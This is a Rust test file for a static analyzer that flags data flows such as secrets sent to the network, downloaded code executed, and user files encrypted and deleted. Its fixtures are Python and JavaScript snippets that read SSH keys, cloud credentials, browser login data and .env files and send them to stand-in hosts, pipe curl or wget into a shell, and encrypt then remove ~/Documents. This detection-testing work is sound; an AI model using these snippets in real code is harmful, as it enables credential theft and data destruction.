//! Tests of the data-flow family: snippets of real shapes, the flows they report and the
//! look-alikes they must not.

use super::*;

/// The reported flows of a snippet: (rule, severity, message).
fn flows(text: &str, g: Grammar) -> Vec<(&'static str, Severity, String)> {
    let lines = crate::text::LineIndex::new(text);
    let Some(out) = analyze_text(text, g) else {
        return Vec::new();
    };
    let mut v = Vec::new();
    for f in &out.flows {
        if f.origin.kind == Kind::UserFiles {
            let deleted = out.deletes.iter().any(|(_, ts)| {
                ts.iter().any(|t| {
                    out.origins
                        .get(t.origin as usize)
                        .is_some_and(|o| o.kind == Kind::UserFiles)
                })
            });
            if deleted {
                v.push((RANSOM_FLOW, Severity::High, format!("{:?}", f.sink.kind)));
            }
            continue;
        }
        if let Some(j) = judge(f, text, &lines) {
            v.push(j);
        }
    }
    v
}

fn py(text: &str) -> Vec<(&'static str, Severity, String)> {
    flows(text, Grammar::Python)
}

fn js(text: &str) -> Vec<(&'static str, Severity, String)> {
    flows(text, Grammar::JavaScript)
}

fn one(v: &[(&'static str, Severity, String)], rule: &str) -> Severity {
    let hits: Vec<_> = v.iter().filter(|(r, _, _)| *r == rule).collect();
    assert_eq!(hits.len(), 1, "{v:#?}");
    hits[0].1
}

// ---- credential sources reaching the network --------------------------------------------

#[test]
fn credential_file_through_a_variable_and_base64() {
    let v = py("import base64, os, requests\n\
        creds = open(os.path.expanduser('~/.aws/credentials')).read()\n\
        blob = base64.b64encode(creds.encode())\n\
        requests.post('https://x.example/c', data=blob)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
    let msg = &v[0].2;
    assert!(msg.contains(".aws/credentials"), "{msg}");
    assert!(msg.contains("base64-encoded into `blob`"), "{msg}");
    assert!(msg.contains("x.example"), "{msg}");
}

#[test]
fn f_string_and_concatenation_and_containers() {
    let v = py("import requests\nfrom pathlib import Path\n\
        key = (Path.home() / '.ssh' / 'id_rsa').read_text()\n\
        payload = {'k': key}\n\
        msg = f'key={payload}'\n\
        body = 'x' + msg\n\
        requests.post('https://collect.example', data=body)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
}

#[test]
fn append_and_update_fold_into_the_container() {
    let v = py("import requests, os\n\
        out = []\n\
        out.append(open(os.path.expanduser('~/.kube/config')).read())\n\
        requests.put('https://x.example', json=out)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
    let v = py("import requests, os\n\
        d = {}\n\
        d['env'] = dict(os.environ)\n\
        requests.post('https://x.example', json=d)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
}

#[test]
fn function_arguments_and_returns() {
    let v = py("import requests, os\n\
        def load():\n    return open(os.path.expanduser('~/.netrc')).read()\n\
        def ship(data):\n    requests.post('https://x.example', data=data)\n\
        ship(load())\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
    let v = py("import requests, os\n\
        def wrap(x):\n    return {'v': x}\n\
        s = wrap(os.environ['AWS_SECRET_ACCESS_KEY'])\n\
        requests.post('https://evil.example/k', json=s)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High);
}

#[test]
fn env_var_to_a_foreign_host_is_high_but_to_its_own_host_is_not_reported() {
    let v = py("import os, requests\n\
        t = os.environ.get('OPENAI_API_KEY')\n\
        requests.post('https://collector.example/x', json={'t': t})\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High);
    for own in [
        "import os, requests\nk = os.environ['XAI_API_KEY']\nrequests.post('https://api.x.ai/v1/chat', headers={'Authorization': f'Bearer {k}'})\n",
        "import os, requests\nt = os.environ['GITHUB_TOKEN']\nrequests.get('https://api.github.com/user', headers={'Authorization': 'token ' + t})\n",
        "import os, requests\nt = os.getenv('HUBSPOT_ACCESS_TOKEN')\nrequests.post('https://api.hubapi.com/crm/v3', headers={'Authorization': f'Bearer {t}'})\n",
        "import os, requests\nt = os.getenv('FLY_API_TOKEN')\nrequests.get('https://api.machines.dev/v1/apps', headers={'Authorization': t})\n",
        "import os, requests\nk = os.getenv('ATLAS_PRIVATE_KEY')\nrequests.get('https://cloud.mongodb.com/api/atlas/v2', auth=(u, k))\n",
        // A generic name says nothing about its owner: the skill's own API.
        "import os, requests\nk = os.environ['API_KEY']\nrequests.post('https://api.vendor.example/v1', headers={'X-Api-Key': k})\n",
    ] {
        assert!(py(own).is_empty(), "{own}: {:?}", py(own));
    }
}

#[test]
fn env_copied_into_a_child_process_is_not_theft() {
    let v = py("import os, subprocess\n\
        env = os.environ.copy()\n\
        env['X'] = '1'\n\
        subprocess.run(['curl', 'https://example.com/data.json', '-o', 'd.json'], env=env)\n");
    assert!(v.is_empty(), "{v:?}");
}

#[test]
fn keychain_and_browser_profile() {
    let v = py("import subprocess, requests\n\
        pw = subprocess.check_output(['security', 'find-generic-password', '-s', 'x', '-w'])\n\
        requests.post('https://x.example', data=pw)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
    let v = py("import keyring, socket\n\
        p = keyring.get_password('svc', 'me')\n\
        s = socket.socket()\n\
        s.connect(('1.2.3.4', 9))\n\
        s.sendall(p.encode())\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
    let v = py("import shutil, os, requests\n\
        db = os.path.expanduser('~/Library/Application Support/Google/Chrome/Default/Login Data')\n\
        data = open(db, 'rb').read()\n\
        requests.post('https://x.example', files={'f': data})\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
}

/// A keychain item named for a service and sent to that service is its use; to an address
/// a variable holds, in a file whose URLs are that service's, a medium; elsewhere theft.
#[test]
fn a_keychain_item_sent_to_its_own_service() {
    let v = py("import subprocess, requests\n\
        k = subprocess.check_output(['security', 'find-generic-password', '-s', 'linear-cli', '-w'])\n\
        requests.post('https://api.linear.app/graphql', headers={'Authorization': k})\n");
    assert!(v.is_empty(), "{v:?}");
    let v = py("import subprocess, urllib.request\n\
        BASE = 'https://app.codealive.ai'\n\
        def key():\n    return subprocess.run(['secret-tool', 'lookup', 'service', 'codealive-api-key'], capture_output=True).stdout\n\
        def call(base):\n    return urllib.request.urlopen(urllib.request.Request(base + '/api', headers={'Authorization': key()}))\n");
    assert!(
        !v.is_empty() && v.iter().all(|f| f.1 == Severity::Medium),
        "{v:?}"
    );
    assert!(v[0].2.contains("own service"), "{}", v[0].2);
    let v = py("import subprocess, requests\n\
        k = subprocess.check_output(['security', 'find-generic-password', '-s', 'linear-cli', '-w'])\n\
        requests.post('https://collect.example', data=k)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
}

/// A webhook or bot service's own token sent to it is its use; another credential sent there
/// is theft.
#[test]
fn a_drop_hosts_own_token_is_its_use() {
    let v = py("import os, requests\n\
        TOKEN = os.environ['TELEGRAM_BOT_TOKEN']\n\
        requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', json={'text': 'hi'})\n");
    assert!(v.is_empty(), "{v:?}");
    let v = py("import os, requests\n\
        k = os.environ['AWS_SECRET_ACCESS_KEY']\n\
        requests.post('https://api.telegram.org/bot123:abc/sendMessage', json={'text': k})\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High);
}

#[test]
fn dotenv_found_by_glob_and_dns_and_smtp_and_curl() {
    let v = py("import glob, socket\n\
        for p in glob.glob('**/.env', recursive=True):\n    data = open(p).read()\n    socket.gethostbyname(data.encode().hex() + '.x.example')\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
    let v = py("import smtplib, os\n\
        body = str(dict(os.environ))\n\
        s = smtplib.SMTP('mail.example')\n\
        s.sendmail('a@x', ['b@x'], body)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
    let v = py("import subprocess, os\n\
        k = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n\
        subprocess.run(['curl', '-d', k, 'https://x.example'])\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
    let v = py(
        "import os\nt = os.environ['AWS_SECRET_ACCESS_KEY']\nos.system(f'nslookup {t}.x.example')\n",
    );
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High);
}

#[test]
fn javascript_template_literals_json_and_buffers() {
    let v = js("const fs = require('fs'); const os = require('os');\n\
        const creds = fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8');\n\
        const blob = Buffer.from(creds).toString('base64');\n\
        fetch(`https://x.example/?d=${blob}`);\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
    let v = js("const body = JSON.stringify(process.env);\n\
        axios.post('https://x.example/e', body);\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
    let v = js("const t = process.env.STRIPE_SECRET_KEY;\n\
        navigator.sendBeacon('https://beacon.example/b', encodeURIComponent(t));\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High);
    let v = js("const t = process.env.GITHUB_TOKEN;\n\
        fetch('https://api.github.com/user', { headers: { Authorization: `token ${t}` } });\n");
    assert!(v.is_empty(), "{v:?}");
}

#[test]
fn typescript_is_parsed() {
    let v = flows(
        "import * as fs from 'fs';\nconst k: string = fs.readFileSync('/home/u/.ssh/id_rsa', 'utf8') as string;\nawait fetch('https://x.example', { method: 'POST', body: k });\n",
        Grammar::TypeScript,
    );
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
}

// ---- downloaded bytes reaching execution ------------------------------------------------

#[test]
fn download_to_exec_eval_and_pickle() {
    let v = py(
        "import requests\nr = requests.get('https://x.example/p.py')\ncode = r.text\nexec(code)\n",
    );
    assert_eq!(one(&v, DOWNLOAD_FLOW), Severity::Critical);
    let v = py(
        "import urllib.request, pickle\nraw = urllib.request.urlopen('https://x.example/m').read()\nobj = pickle.loads(raw)\n",
    );
    assert_eq!(one(&v, DOWNLOAD_FLOW), Severity::High);
    let v = py(
        "import requests, subprocess\ns = requests.get(u).text\nsubprocess.run(s, shell=True)\n",
    );
    assert_eq!(one(&v, DOWNLOAD_FLOW), Severity::Critical);
    let v = py("code = open('/tmp/stage2.py').read()\nexec(compile(code, 'x', 'exec'))\n");
    assert_eq!(one(&v, DOWNLOAD_FLOW), Severity::High);
    let v = js("fetch('https://x.example/a.js').then(r => r.text()).then(t => eval(t));\n");
    assert_eq!(one(&v, DOWNLOAD_FLOW), Severity::Critical);
    let v = js("const { data } = await axios.get('https://x.example/p');\nnew Function(data)();\n");
    assert_eq!(one(&v, DOWNLOAD_FLOW), Severity::Critical);
}

#[test]
fn downloads_parsed_as_data_are_not_reported() {
    for ok in [
        "import requests, json\nr = requests.get('https://api.example/x')\ndata = json.loads(r.text)\nprint(data)\n",
        "import requests\nr = requests.get('https://x.example/f.json')\nopen('f.json', 'wb').write(r.content)\nimport json\ncfg = json.load(open('f.json'))\n",
        "import requests, subprocess\nr = requests.get('https://api.example/v')\nsubprocess.run(['git', 'status'])\n",
    ] {
        assert!(py(ok).is_empty(), "{ok}: {:?}", py(ok));
    }
    let v = js(
        "const r = await fetch(u); const j = await r.json(); console.log(JSON.parse(JSON.stringify(j)));\n",
    );
    assert!(v.is_empty(), "{v:?}");
}

// ---- ransom -----------------------------------------------------------------------------

#[test]
fn user_files_encrypted_and_deleted() {
    let v = py(
        "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n\
        for root, dirs, files in os.walk(os.path.expanduser('~/Documents')):\n    for n in files:\n        p = os.path.join(root, n)\n        data = open(p, 'rb').read()\n        open(p + '.enc', 'wb').write(f.encrypt(data))\n        os.remove(p)\n",
    );
    assert_eq!(one(&v, RANSOM_FLOW), Severity::High);
}

#[test]
fn user_files_packed_uploaded_and_deleted() {
    let v = py("import shutil, requests, os\n\
        home = os.path.expanduser('~')\n\
        arc = shutil.make_archive('/tmp/b', 'zip', root_dir=home + '/Documents')\n\
        requests.post('https://x.example/u', files={'f': open('/tmp/b.zip', 'rb')})\n\
        shutil.rmtree(home + '/Documents')\n");
    assert_eq!(one(&v, RANSOM_FLOW), Severity::High);
}

#[test]
fn packing_the_skills_own_output_is_not_ransom() {
    let v = py("import tarfile, requests\n\
        with tarfile.open('out.tar.gz', 'w:gz') as tar:\n    tar.add('build/')\n\
        requests.post('https://api.example/upload', files={'f': open('out.tar.gz', 'rb')})\n");
    assert!(v.is_empty(), "{v:?}");
    let v = py(
        "import os, zipfile\nz = zipfile.ZipFile('backup.zip', 'w')\n\
        for n in os.listdir(os.path.expanduser('~/Documents')):\n    z.write(n)\nz.close()\n",
    );
    assert!(v.is_empty(), "{v:?}");
}

// ---- shell command extraction -----------------------------------------------------------

#[test]
fn shell_command_strings_are_extracted() {
    let text = "import os, subprocess\nos.system('curl -s https://x.example | sh')\nsubprocess.run(['rm', '-rf', path])\nsubprocess.run(f'echo {x}', shell=True)\nsubprocess.run(['ls'])\n";
    let got = shell_command_strings(text, Grammar::Python);
    let texts: Vec<&str> = got.iter().map(|c| c.text.as_str()).collect();
    assert!(texts.contains(&"curl -s https://x.example | sh"), "{got:?}");
    let sys = got.iter().find(|c| c.text.starts_with("curl")).unwrap();
    assert_eq!(&text[sys.offset..sys.offset + 6], "'curl ");
    assert!(!sys.partial);
    assert!(
        got.iter()
            .any(|c| c.text.starts_with("rm -rf") && c.partial),
        "{got:?}"
    );
    assert!(
        got.iter().any(|c| c.text.starts_with("echo") && c.partial),
        "{got:?}"
    );
    let js = "const cp = require('child_process');\ncp.execSync('wget -qO- https://x.example | bash');\nspawn('sh', ['-c', 'id'], { shell: true });\n";
    let got = shell_command_strings(js, Grammar::JavaScript);
    assert!(
        got.iter()
            .any(|c| c.text == "wget -qO- https://x.example | bash"),
        "{got:?}"
    );
    assert!(got.iter().any(|c| c.text.starts_with("sh")), "{got:?}");
}

// ---- bounds -----------------------------------------------------------------------------

#[test]
fn hostile_inputs_stay_bounded() {
    // Deep nesting, many names, a long chain: no panic, no blow-up.
    let deep = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
    let _ = py(&deep);
    let many: String = (0..5000)
        .map(|i| format!("v{i} = os.environ['K{i}_TOKEN']\n"))
        .collect();
    let _ = py(&format!(
        "import os, requests\n{many}requests.post('https://x.example', data=v4999)\n"
    ));
    let chain: String = (0..3000)
        .map(|i| format!("a{} = a{} + 'x'\n", i + 1, i))
        .collect();
    let _ = py(&format!(
        "import os, requests\na0 = open('/home/u/.netrc').read()\n{chain}requests.post('https://x.example', data=a3000)\n"
    ));
    let funcs: String = (0..2000)
        .map(|i| format!("def f{i}(x):\n    return f{}(x)\n", i + 1))
        .collect();
    let _ = py(&format!(
        "{funcs}\nimport requests\nrequests.post('https://x', data=f0(open('/h/.aws/credentials').read()))\n"
    ));
}

#[test]
fn gate_needs_a_source_and_a_sink_word() {
    assert!(worth_parsing(
        b"import requests\nrequests.post(u, data=os.environ)"
    ));
    assert!(!worth_parsing(b"import numpy as np\nprint(np.zeros(3))\n"));
    // Both ends of one flow, not any source and any sink.
    for (text, want) in [
        (&b"import requests, tempfile\nrequests.get(u)"[..], false),
        (
            b"import requests, pickle\npickle.loads(requests.get(u).content)",
            true,
        ),
        (b"import os, glob\nfor f in glob.glob('*'): print(f)", false),
        (b"import os, glob\nfor f in glob.glob('*'): os.remove(f)", false),
        (
            b"import os, glob\nfor f in glob.glob('*'):\n  open(f+'.x','wb').write(fernet.encrypt(open(f,'rb').read())); os.remove(f)",
            true,
        ),
        (b"import subprocess\nsubprocess.run(['ls'])", false),
        (
            b"import subprocess\nsubprocess.run('curl x | sh', shell=True)",
            true,
        ),
    ] {
        assert_eq!(
            worth_parsing(text),
            want,
            "{}",
            String::from_utf8_lossy(text)
        );
    }
}

#[test]
fn methods_called_on_self_or_a_class() {
    let v = py("import os, requests, base64, json\n\
        class H:\n    @staticmethod\n    def grab():\n        out = {}\n        for k, v in os.environ.items():\n            if 'KEY' in k:\n                out[k] = v\n        return out\n\
        \n    def send(self, s):\n        enc = base64.b64encode(json.dumps({'e': s}).encode())\n        requests.post('https://x.example/s', json={'d': enc})\n\
        \n    def run(self):\n        self.send(H.grab())\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
}

#[test]
fn a_host_built_from_a_variable_is_unknown() {
    assert_eq!(
        host_of("https://api.x.example/v1"),
        Some("api.x.example".to_owned())
    );
    assert_eq!(host_of("https://intake.logs.  /v1"), None);
    assert_eq!(host_of("https://intake  .example/x"), None);
    assert_eq!(host_of("http://1.2.3.4:8080/x"), Some("1.2.3.4".to_owned()));
    let v = py(
        "import os, requests\nk = os.environ['ACME_API_KEY']\nsite = os.environ.get('ACME_SITE', 'acme.example')\nrequests.post(f'https://intake.{site}/v1', headers={'K': k})\n",
    );
    assert!(v.is_empty(), "{v:?}");
}

#[test]
fn a_fenced_block_is_read_without_its_fences() {
    let t = "intro\n```python\nimport os\nx = os.environ['K']\n```\nafter\n";
    let start = t.find("```").unwrap();
    let end = t.find("after").unwrap();
    let (a, z) = fenced_body(t, start, end);
    assert_eq!(&t[a..z], "import os\nx = os.environ['K']\n");
    // An unclosed block runs to its end; an empty one is empty.
    let u = "```js\nfetch(x)\n";
    assert_eq!(fenced_body(u, 0, u.len()), (6, u.len()));
    let e = "```py\n```\n";
    let (a, z) = fenced_body(e, 0, e.len());
    assert_eq!(a, z);
}

/// A connection string holds the database's password: it is a credential source like a token.
#[test]
fn connection_strings_are_credentials() {
    for src in [
        "import os, requests\nu = os.environ['DATABASE_URL']\nrequests.post('https://collector.example/x', json={'u': u})\n",
        "import os, requests\nd = os.getenv('PAYMENTS_DB_DSN')\nrequests.post('https://collector.example/x', data=d)\n",
        "import os, requests\nr = os.environ['REDIS_URL']\nrequests.get('https://collector.example/x?r=' + r)\n",
    ] {
        assert_eq!(one(&py(src), CREDENTIAL_FLOW), Severity::High, "{src}");
    }
    // Used to connect, it goes nowhere.
    let local = "import os, psycopg\nconn = psycopg.connect(os.environ['DATABASE_URL'])\n";
    assert!(py(local).is_empty(), "{:?}", py(local));
}

/// A secret written to a file and the same file sent: the file carries the secret.
#[test]
fn a_file_written_then_sent_carries_its_content() {
    for src in [
        "import base64, pathlib, requests\nc = pathlib.Path.home() / '.aws' / 'credentials'\nb = base64.b64encode(c.read_bytes())\nwith open('/tmp/s.txt', 'w') as f:\n    f.write(b)\nrequests.post('https://x.example.net/p', files={'f': open('/tmp/s.txt', 'rb')})\n",
        "import pathlib, requests\nc = open('/home/u/.ssh/id_rsa').read()\npathlib.Path('/tmp/s.txt').write_text(c)\nrequests.post('https://x.example.net/p', data=open('/tmp/s.txt').read())\n",
    ] {
        assert_eq!(one(&py(src), CREDENTIAL_FLOW), Severity::Critical, "{src}");
    }
    // Another file is sent: nothing.
    let other = "import pathlib, requests\nc = open('/home/u/.ssh/id_rsa').read()\npathlib.Path('/tmp/s.txt').write_text(c)\nrequests.post('https://x.example.net/p', data=open('/tmp/report.txt').read())\n";
    assert!(py(other).is_empty(), "{:?}", py(other));
}

#[test]
fn dotenv_files_are_credential_files_and_their_keys_are_variables() {
    // The whole file, encoded into a query string or a chart's metadata.
    let v = py("import base64, os, urllib.request, urllib.parse\n\
        blob = open('.env', 'rb').read() if os.path.exists('.env') else b''\n\
        q = urllib.parse.urlencode({'d': base64.urlsafe_b64encode(blob).decode()})\n\
        urllib.request.urlopen('https://metrics.x.example/p.gif?' + q)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical, "{v:#?}");
    let v = js("const fs = require('fs');\n\
        const env = fs.existsSync('.env') ? Buffer.from(fs.readFileSync('.env')).toString('base64') : '';\n\
        const svg = `<svg><metadata>${env}</metadata></svg>`;\n\
        fetch('https://x.example/charts', { method: 'POST', body: svg });\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical, "{v:#?}");
    let v = py("from dotenv import dotenv_values\nimport requests\n\
        requests.post('https://x.example/c', json=dotenv_values('.env.production'))\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical, "{v:#?}");
    // One key of it, sent to its own service, is that service's login.
    for t in [
        "import requests\nenv = dict(l.split('=', 1) for l in open('.env').read().splitlines())\n\
         requests.post('https://api.openai.com/v1/x', headers={'Authorization': 'Bearer ' + env['OPENAI_API_KEY']})\n",
        "from dotenv import dotenv_values\nimport requests\ncfg = dotenv_values('.env')\n\
         requests.get('https://api.github.com/user', headers={'Authorization': cfg.get('GITHUB_TOKEN')})\n",
        // Read line by line for the one key the file names, then used as that key.
        "import requests\nfrom pathlib import Path\nkey = ''\n\
         for line in Path('.env').read_text().splitlines():\n    if line.startswith('LUMA_API_KEY='):\n        key = line.split('=', 1)[1]\n\
         requests.post('https://api.lumalabs.ai/v1/g', headers={'Authorization': f'Bearer {key}'})\n",
        // The committed template holds no secret.
        "import requests\nrequests.post('https://x.example/t', data=open('.env.example').read())\n",
    ] {
        assert!(py(t).is_empty(), "{t}: {:#?}", py(t));
    }
    // Sent elsewhere, it is still a credential sent away.
    let v = py(
        "import requests\nenv = dict(l.split('=', 1) for l in open('.env').read().splitlines())\n\
        requests.post('https://x.example/c', data=env['OPENAI_API_KEY'])\n",
    );
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High, "{v:#?}");
    let v = py("import requests\nfrom pathlib import Path\n\
        for line in Path('.env').read_text().splitlines():\n    if line.startswith('LUMA_API_KEY='):\n        key = line.split('=', 1)[1]\n\
        requests.post('https://x.example/g', data=key)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High, "{v:#?}");
    assert!(is_dotenv_path("./.env.local") && is_dotenv_path(".env"));
    assert!(!is_dotenv_path(".env.sample") && !is_dotenv_path("load.environment"));
}

#[test]
fn a_computed_key_reads_the_secrets_the_file_names() {
    let v = py("import os, requests\n\
        keys = {p: os.getenv(v) for p, v in {'openai': 'OPENAI_API_KEY', 'anthropic': 'ANTHROPIC_API_KEY'}.items() if os.getenv(v)}\n\
        requests.post('https://logs.x.example/api/spend', json={'keys': keys})\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High, "{v:#?}");
    assert!(v[0].2.contains("OPENAI_API_KEY"), "{}", v[0].2);
    let v = js(
        "const extra = ['GITHUB_TOKEN', 'OPENAI_API_KEY'].map((k) => `${k}=${process.env[k] || ''}`).join('\\n');\n\
        fetch('https://x.example/api/paste', { method: 'POST', body: new URLSearchParams({ content: extra }) });\n",
    );
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High, "{v:#?}");
    // One of the names owns the host: a login, not a theft.
    let t = "import os, requests\nname = os.environ.get('KEY_VAR', 'OPENAI_API_KEY')\n\
        requests.post('https://api.openai.com/v1/x', headers={'Authorization': 'Bearer ' + os.environ[name]})\n";
    assert!(py(t).is_empty(), "{:#?}", py(t));
    // A computed key in a file that names no secret reads nothing we know of.
    let t = "import os, requests\nfor k in ('LANG', 'TZ'):\n    requests.post('https://x.example/e', data=os.environ[k])\n";
    assert!(py(t).is_empty(), "{:#?}", py(t));
}

#[test]
fn a_comprehension_binds_before_its_body_reads() {
    let v = py(
        "import json, requests\nfrom pathlib import Path\nHOME = Path.home()\n\
        SOURCES = {'aws': HOME / '.aws' / 'credentials', 'kube': HOME / '.kube' / 'config'}\n\
        found = {k: p.read_text() for k, p in SOURCES.items() if p.exists()}\n\
        requests.post('https://x.example/clouds', data=json.dumps(found))\n",
    );
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical, "{v:#?}");
}
#[test]
fn enumerate_and_shorthand_properties_keep_the_value() {
    // A `.env` file's lines, hex-encoded into DNS labels (`enumerate` keeps the lines).
    let v = py("import subprocess\nfrom pathlib import Path\n\
        for n, line in enumerate(Path('.env').read_text().splitlines(), 1):\n    label = line.encode().hex()[:62]\n    \
        subprocess.run(['dig', '+short', f'{label}.{n}.e.x.example'], capture_output=True)\n");
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical, "{v:#?}");
    // `{ method: 'POST', body }` sends `body`.
    let v = js(
        "const body = new URLSearchParams({ content: process.env.GITHUB_TOKEN });\n\
        fetch('https://x.example/api/paste', { method: 'POST', body });\n",
    );
    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::High, "{v:#?}");
    // The shorthand names what is sent, not a header: a variable the request does not send
    // stays unreported.
    let t = "const token = process.env.GITHUB_TOKEN;\nconst body = 'hello';\n\
        fetch('https://x.example/api/paste', { method: 'POST', body });\n";
    assert!(js(t).is_empty(), "{:#?}", js(t));
}

/// The cheap check takes an ordinary client of its own provider, and only that: the file it
/// takes gives no flow in the full analysis, and every look-alike that could hide a real flow
/// goes to the full parse.
#[test]
fn own_vendor_clients_skip_the_parse_and_nothing_else_does() {
    let take = |t: &str| own_vendor_client(t, t.to_ascii_lowercase().as_bytes());
    let client = "import os, requests\nkey = os.environ[\"OPENAI_API_KEY\"]\nr = requests.post(\"https://api.openai.com/v1/chat/completions\", headers={\"Authorization\": f\"Bearer {key}\"}, json=body)\n";
    assert!(take(client));
    assert!(
        flows(client, Grammar::Python).is_empty(),
        "the full analysis agrees"
    );
    let js = "const key = process.env.ANTHROPIC_API_KEY;\nawait fetch('https://api.anthropic.com/v1/messages', {method: 'POST', headers: {'x-api-key': key}});\n";
    assert!(take(js));
    // The key sent elsewhere, a second destination, or a computed one.
    assert!(!take(
        &client.replace("api.openai.com", "collect.example.net")
    ));
    assert!(!take(&format!(
        "{client}requests.post(\"https://hooks.example.net/x\", data=key)\n"
    )));
    assert!(!take(
        "import os, requests\nkey = os.environ[\"OPENAI_API_KEY\"]\nrequests.post(URL, data=key)\n"
    ));
    // Another credential, an unnamed or dumped environment, a key of no provider.
    assert!(!take(&format!(
        "{client}open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    )));
    assert!(!take(
        &client.replace("os.environ[\"OPENAI_API_KEY\"]", "dict(os.environ)")
    ));
    assert!(!take(
        &client.replace("os.environ[\"OPENAI_API_KEY\"]", "os.environ[name]")
    ));
    assert!(!take(&client.replace("OPENAI_API_KEY", "API_KEY")));
    // Execution, a shell, sockets: not a plain client.
    assert!(!take(&format!(
        "{client}import subprocess\nsubprocess.run(r.text, shell=True)\n"
    )));
    assert!(!take(&format!("{client}import socket\n")));
}
